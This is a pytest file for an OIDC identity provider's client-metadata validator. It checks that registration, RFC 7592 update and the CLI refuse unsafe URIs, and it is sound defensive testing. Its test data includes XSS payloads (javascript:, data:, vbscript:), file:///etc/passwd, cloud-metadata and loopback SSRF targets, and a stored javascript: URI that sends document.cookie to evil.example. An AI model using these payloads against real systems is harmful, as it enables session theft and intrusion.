"""One client-metadata validator (``idp/core/client_metadata.py``) for RFC 7591 registration,
RFC 7592 update and ``idp clients create|update``; a refused document leaves the stored client
exactly as it was (or creates none). Issue 15, item 1: stored XSS on the IdP's origin through
``frontchannel_logout_uri`` (rendered as an iframe ``src`` on the signed-out page), and the
RFC 7592 PUT path that skipped the registration checks.

Specs: RFC 7591 §2 and §3.2.2 (error codes ``invalid_redirect_uri`` / ``invalid_client_metadata``),
OIDC Dynamic Client Registration 1.0 §2 (no fragments; https for ``initiate_login_uri`` and
``sector_identifier_uri``), RFC 8252 §7.1 (private-use schemes), §7.3 and §8.3 (loopback http),
Front-Channel Logout 1.0 §2 and Back-Channel Logout 1.0 §2.2 (https; http only where the OP
allows it; no fragment)."""

from __future__ import annotations

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from oidc_support import RP, authorize, build_env, initial_access_token, token
from support import set_instance_env

from idp.core.client_metadata import (
    FORBIDDEN_SCHEMES,
    URI_RULES,
    MetadataError,
    Policy,
    check_client_metadata,
    uri_problem,
)
from idp.storage.models import Client


@pytest.fixture(scope="module")
def env(tmp_path_factory):
    """The default [outbound] settings: https only, no private addresses."""
    with build_env(tmp_path_factory, {}) as built:
        yield built


# Every kind of bad URI, with the fields it must be refused for.
BAD_URIS = [
    "javascript:alert(document.domain)",
    "JavaScript:alert(1)",
    " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "\x01javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "file:///etc/passwd",
    "vbscript:msgbox(1)",
    "https://rp.example.org/cb#frag",
    "https://rp.example.org/cb#",
    "https://user@rp.example.org/cb",
    "http://user:pw@127.0.0.1:8080/cb",
    "http://127.0.0.1@evil.example/cb",
    "http://rp.example.org/cb",
    "//rp.example.org/cb",
    "/relative/cb",
    "https://",
    "https://rp.example.org:99999/cb",
    "https://rp.example.org/c b",
    "https://rp.example.org/\u00e9",
    "https://rp.example.org/cb\n",
    "x" * 10 + "https://rp.example.org/" + "a" * 2000,
]


def _document(field: str, uri: str) -> dict:
    meta = {"redirect_uris": ["https://rp.example.org/cb"]}
    meta[field] = [uri] if field in ("redirect_uris", "post_logout_redirect_uris") else uri
    return meta


def _expected_error(field: str) -> str:
    return "invalid_redirect_uri" if field == "redirect_uris" else "invalid_client_metadata"


@pytest.mark.parametrize("field", sorted(URI_RULES))
@pytest.mark.parametrize("uri", BAD_URIS)
def test_every_uri_field_refuses_every_bad_kind(field, uri):
    with pytest.raises(MetadataError) as caught:
        check_client_metadata(_document(field, uri))
    assert caught.value.error == _expected_error(field)
    assert caught.value.field == field and caught.value.description.startswith(field)


@pytest.mark.parametrize(
    "field,uri",
    [
        ("redirect_uris", "https://rp.example.org/cb?x=1"),
        ("redirect_uris", "http://127.0.0.1:8080/cb"),
        ("redirect_uris", "http://[::1]:8080/cb"),
        ("redirect_uris", "http://localhost/cb"),
        ("redirect_uris", "com.example.app:/oauth2redirect"),
        ("post_logout_redirect_uris", "https://rp.example.org/bye"),
        ("post_logout_redirect_uris", "http://127.0.0.1:8080/bye"),
        ("frontchannel_logout_uri", "https://rp.example.org/fcl?x=1"),
        ("backchannel_logout_uri", "https://rp.example.org/bcl"),
        ("jwks_uri", "https://rp.example.org/jwks.json"),
        ("sector_identifier_uri", "https://rp.example.org/sector.json"),
        ("initiate_login_uri", "https://rp.example.org/login"),
        ("logo_uri", "https://rp.example.org/logo.png"),
    ],
)
def test_good_uris_pass(field, uri):
    check_client_metadata(_document(field, uri))


@pytest.mark.parametrize(
    "field,uri",
    [
        # Private-use schemes are for native apps' redirect URIs only (RFC 8252 §7.1).
        ("post_logout_redirect_uris", "com.example.app:/bye"),
        ("frontchannel_logout_uri", "com.example.app:/fcl"),
        ("redirect_uris", "myapp:/cb"),  # not a reverse domain name
        # The IdP connects to these: https, and no loopback / private literal.
        ("backchannel_logout_uri", "http://127.0.0.1:8080/bcl"),
        ("backchannel_logout_uri", "https://127.0.0.1/bcl"),
        ("backchannel_logout_uri", "https://10.0.0.1/bcl"),
        ("jwks_uri", "https://169.254.169.254/latest/meta-data/"),
        ("jwks_uri", "https://[::1]/jwks"),
        ("jwks_uri", "https://localhost/jwks"),
        ("sector_identifier_uri", "https://[fc00::1]/s.json"),
        # Shown or followed in the browser: https only, loopback http included.
        ("logo_uri", "http://127.0.0.1/logo.png"),
        ("initiate_login_uri", "http://localhost/login"),
    ],
)
def test_field_specific_refusals(field, uri):
    with pytest.raises(MetadataError) as caught:
        check_client_metadata(_document(field, uri))
    assert caught.value.field == field


def test_the_outbound_settings_open_the_fetched_fields_only():
    open_policy = Policy(allow_http=True, allow_private_addresses=True)
    for field in ("backchannel_logout_uri", "jwks_uri", "sector_identifier_uri"):
        check_client_metadata(_document(field, "http://127.0.0.1:8080/x"), open_policy)
    with pytest.raises(MetadataError):
        check_client_metadata(_document("logo_uri", "http://10.0.0.1/x"), open_policy)
    with pytest.raises(MetadataError):
        check_client_metadata(_document("jwks_uri", "javascript:alert(1)"), open_policy)


def _browser_scheme(uri: str) -> str | None:
    """The scheme a WHATWG URL parser sees: leading/trailing C0 controls and spaces stripped,
    tabs and newlines removed anywhere."""
    cleaned = uri.strip("".join(chr(c) for c in range(0x21)))
    cleaned = cleaned.replace("\t", "").replace("\n", "").replace("\r", "")
    head, sep, _ = cleaned.partition(":")
    return head.lower() if sep else None


_noise = st.text(alphabet=st.sampled_from([" ", "\t", "\n", "\r", "\x00", "\x0b", "\x1f"]))


@settings(max_examples=300, deadline=None)
@given(
    prefix=_noise,
    scheme=st.sampled_from(sorted(FORBIDDEN_SCHEMES)),
    upper=st.lists(st.booleans(), min_size=20, max_size=20),
    split=_noise,
    rest=st.text(max_size=40),
    field=st.sampled_from(sorted(URI_RULES)),
)
def test_no_spelling_of_a_forbidden_scheme_passes(prefix, scheme, upper, split, rest, field):
    mixed = "".join(c.upper() if u else c for c, u in zip(scheme, upper, strict=False))
    uri = prefix + mixed[:2] + split + mixed[2:] + ":" + rest
    assert uri_problem(field, uri) is not None


@settings(max_examples=500, deadline=None)
@given(
    uri=st.text(max_size=60) | st.from_regex(r"\A[a-zA-Z][a-zA-Z+.\-]{0,12}:.{0,30}\Z"),
    field=st.sampled_from(sorted(URI_RULES)),
)
def test_whatever_passes_is_safe_to_render(uri, field):
    """Property: anything the validator accepts has no fragment, is printable ASCII, and is
    read by a browser as https / loopback http, or (redirect URIs only) a dotted private-use
    scheme; never one of the forbidden schemes."""
    if uri_problem(field, uri) is not None:
        return
    assert uri.isascii() and uri.isprintable() and " " not in uri and "#" not in uri
    scheme = _browser_scheme(uri)
    assert scheme not in FORBIDDEN_SCHEMES
    if field == "redirect_uris":
        assert scheme in ("https", "http") or "." in scheme
    else:
        assert scheme in ("https", "http")


# --- RFC 7591 registration and RFC 7592 update through the endpoints ---------------------------

FIELDS_AND_BAD = [
    (field, uri)
    for field in sorted(URI_RULES)
    for uri in (
        "javascript:alert(document.domain)",
        "\tjavascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "file:///etc/passwd",
        "vbscript:msgbox(1)",
        "https://rp.example.org/x#frag",
        "http://rp.example.org/x",
        "http://user@127.0.0.1:8080/x",
    )
]


def _rows(env) -> dict[str, str]:
    """Every stored client, as bytes-comparable JSON of all its columns."""
    with env.svc.sessions() as db:
        out = {}
        for row in db.query(Client).all():
            cols = {c.name: getattr(row, c.name) for c in Client.__table__.columns}
            out[row.client_id] = json.dumps(cols, sort_keys=True, default=str)
        return out


@pytest.mark.parametrize("field,uri", FIELDS_AND_BAD)
def test_registration_refuses_bad_uris_and_creates_nothing(env, field, uri):
    before = _rows(env)
    resp = env.client().post(
        "/oauth2/register",
        json=_document(field, uri),
        headers={"Authorization": f"Bearer {initial_access_token(env)}"},
    )
    assert resp.status_code == 400, resp.json
    assert resp.json["error"] == _expected_error(field)
    assert field in resp.json["error_description"]
    assert resp.headers["Cache-Control"] == "no-store"
    assert _rows(env) == before


@pytest.fixture(scope="module")
def managed(env):
    """A dynamically registered client and its registration access token."""
    doc = (
        env.client()
        .post(
            "/oauth2/register",
            json={
                "redirect_uris": ["https://managed.example.org/cb"],
                "post_logout_redirect_uris": ["https://managed.example.org/bye"],
                "frontchannel_logout_uri": "https://managed.example.org/fcl",
                "client_name": "Managed",
            },
            headers={"Authorization": f"Bearer {initial_access_token(env)}"},
        )
        .json
    )
    return doc


@pytest.mark.parametrize("field,uri", FIELDS_AND_BAD)
def test_rfc7592_update_refuses_bad_uris_and_changes_nothing(env, managed, field, uri):
    before = _rows(env)
    body = _document(field, uri)
    body["redirect_uris"] = (
        body["redirect_uris"] if field == "redirect_uris" else ["https://managed.example.org/cb"]
    )
    body["client_id"] = managed["client_id"]
    url = managed["registration_client_uri"].replace("http://127.0.0.1:5000", "")
    resp = env.client().put(
        url, json=body, headers={"Authorization": f"Bearer {managed['registration_access_token']}"}
    )
    assert resp.status_code == 400, resp.json
    assert resp.json["error"] == _expected_error(field)
    assert field in resp.json["error_description"]
    assert _rows(env) == before


def test_rfc7592_update_with_good_metadata_still_works(env, managed):
    url = managed["registration_client_uri"].replace("http://127.0.0.1:5000", "")
    resp = env.client().put(
        url,
        json={
            "client_id": managed["client_id"],
            "redirect_uris": ["https://managed.example.org/cb"],
            "frontchannel_logout_uri": "https://managed.example.org/fcl2",
        },
        headers={"Authorization": f"Bearer {managed['registration_access_token']}"},
    )
    assert resp.status_code == 200, resp.json
    assert resp.json["frontchannel_logout_uri"] == "https://managed.example.org/fcl2"


# --- the signed-out page re-checks stored rows (rows written before the validator) ------------


def test_a_stored_javascript_frontchannel_uri_is_never_rendered(env):
    from idp.oidc.clients import client_cache

    legacy = "javascript:fetch('//evil.example/'+document.cookie)//"
    with env.svc.sessions.begin() as db:
        row = db.get(Client, "web")
        saved = dict(row.meta)
        row.meta = dict(row.meta, frontchannel_logout_uri=legacy)
    client_cache(env.svc).bump()
    try:
        c = env.client()
        got = authorize(c)
        tokens = token(
            c,
            {"grant_type": "authorization_code", "code": got["code"], "redirect_uri": RP},
            auth=("web", env.secrets["web"]),
        ).json
        page = c.get("/oauth2/logout", query_string={"id_token_hint": tokens["id_token"]})
        html = page.get_data(as_text=True)
        assert page.status_code == 200
        assert "<iframe" not in html and "javascript" not in html.lower()
        assert "signed out" in html
        # The session really ended.
        again = c.get(
            "/oauth2/authorize",
            query_string={
                "response_type": "code",
                "client_id": "web",
                "redirect_uri": RP,
                "scope": "openid",
                "prompt": "none",
            },
        )
        assert "error=login_required" in again.headers["Location"]
    finally:
        with env.svc.sessions.begin() as db:
            db.get(Client, "web").meta = saved
        client_cache(env.svc).bump()


# --- idp clients create / update --------------------------------------------------------------

CLI_BAD = [
    ("--redirect-uri", "javascript:alert(1)", "redirect_uris"),
    ("--redirect-uri", "https://rp.example.org/cb#f", "redirect_uris"),
    ("--redirect-uri", "http://user@127.0.0.1:8080/cb", "redirect_uris"),
    ("--post-logout-redirect-uri", "javascript:alert(1)", "post_logout_redirect_uris"),
    ("--post-logout-redirect-uri", "data:text/html,x", "post_logout_redirect_uris"),
    ("--frontchannel-logout-uri", "javascript:alert(1)", "frontchannel_logout_uri"),
    ("--frontchannel-logout-uri", " vbscript:msgbox(1)", "frontchannel_logout_uri"),
    ("--backchannel-logout-uri", "http://rp.example.org/bcl", "backchannel_logout_uri"),
    ("--backchannel-logout-uri", "https://169.254.169.254/x", "backchannel_logout_uri"),
    ("--jwks-uri", "file:///etc/passwd", "jwks_uri"),
    ("--jwks-uri", "https://127.0.0.1/jwks", "jwks_uri"),
]


@pytest.fixture
def cli_instance(monkeypatch, instance_dir, capsys):
    from test_cli import ok_json

    set_instance_env(monkeypatch, instance_dir)
    ok_json(capsys, "init", "--demo", "--admin-password", "Admin-Password-123")
    return instance_dir


@pytest.mark.parametrize("option,value,field", CLI_BAD)
def test_cli_create_refuses_bad_uris_and_creates_nothing(
    cli_instance, capsys, option, value, field
):
    from test_cli import fails, snapshot

    before = snapshot(cli_instance)
    args = ["clients", "create", "--client-id", "c1"]
    if option != "--redirect-uri":
        args += ["--redirect-uri", "https://rp.example.org/cb"]
    err = fails(capsys, *args, option, value, code=1)
    assert field in err
    assert snapshot(cli_instance) == before


@pytest.mark.parametrize("option,value,field", CLI_BAD)
def test_cli_update_refuses_bad_uris_and_changes_nothing(
    cli_instance, capsys, option, value, field
):
    from test_cli import fails, snapshot

    before = snapshot(cli_instance)
    err = fails(capsys, "clients", "update", "demo-app", option, value, code=1)
    assert field in err
    assert snapshot(cli_instance) == before


def test_cli_update_sets_and_clears_logout_uris(cli_instance, capsys):
    from test_cli import ok_json

    got = ok_json(
        capsys,
        "clients",
        "update",
        "demo-app",
        "--frontchannel-logout-uri",
        "http://127.0.0.1:8080/fcl",
        "--post-logout-redirect-uri",
        "https://rp.example.org/bye",
    )
    assert got["frontchannel_logout_uri"] == "http://127.0.0.1:8080/fcl"
    assert got["post_logout_redirect_uris"] == ["https://rp.example.org/bye"]
    cleared = ok_json(capsys, "clients", "update", "demo-app", "--frontchannel-logout-uri", "")
    assert "frontchannel_logout_uri" not in cleared


def test_stored_unsafe_page_links_are_not_rendered_on_consent(env):
    """Rows written before the one validator existed may hold ``javascript:`` logo, policy or
    terms links; the consent page and the account's app list leave them out."""
    from oidc_support import login

    from idp.oidc.clients import client_cache

    with env.svc.sessions.begin() as db:
        row = db.get(Client, "web2")
        saved = dict(row.meta)
        row.meta = dict(
            row.meta,
            logo_uri="javascript:alert(1)",
            policy_uri=" javascript:alert(2)",
            tos_uri="https://other.example.org/tos",
        )
    client_cache(env.svc).bump()
    try:
        c = env.client()
        login(c)
        resp = c.get(
            "/oauth2/authorize",
            query_string={
                "response_type": "code",
                "client_id": "web2",
                "redirect_uri": "https://other.example.org/cb",
                "scope": "openid profile",
                "prompt": "consent",
            },
        )
        assert resp.status_code == 303, resp.get_data(as_text=True)[:300]
        html = c.get(resp.headers["Location"]).get_data(as_text=True)
        assert "javascript" not in html.lower()
        assert 'href="https://other.example.org/tos"' in html  # a safe link still shows
        with env.svc.sessions() as db:
            assert db.get(Client, "web2").meta["logo_uri"] == "javascript:alert(1)"  # untouched
    finally:
        with env.svc.sessions.begin() as db:
            db.get(Client, "web2").meta = saved
        client_cache(env.svc).bump()


@pytest.mark.parametrize(
    ("resources", "problem"),
    [
        ("https://api.example.org/", "must be a list"),
        ([1], "must be a list"),
        (["https://api.example.org/#f"], "must not have a fragment"),
        (["/relative"], "not an absolute URI"),
        (["https://api.example.org/\n"], "printable"),
    ],
)
def test_resources_are_absolute_uris_without_fragment(resources, problem):
    """RFC 8707 §2: a resource indicator is an absolute URI, a query allowed, no fragment."""
    meta = {"redirect_uris": ["https://rp.example.org/cb"], "resources": resources}
    with pytest.raises(MetadataError) as err:
        check_client_metadata(meta)
    assert err.value.error == "invalid_client_metadata"
    assert str(err.value).startswith("resources:") and problem in str(err.value)
    good = dict(meta, resources=["https://api.example.org/v1?tenant=a", "urn:example:api"])
    check_client_metadata(good)
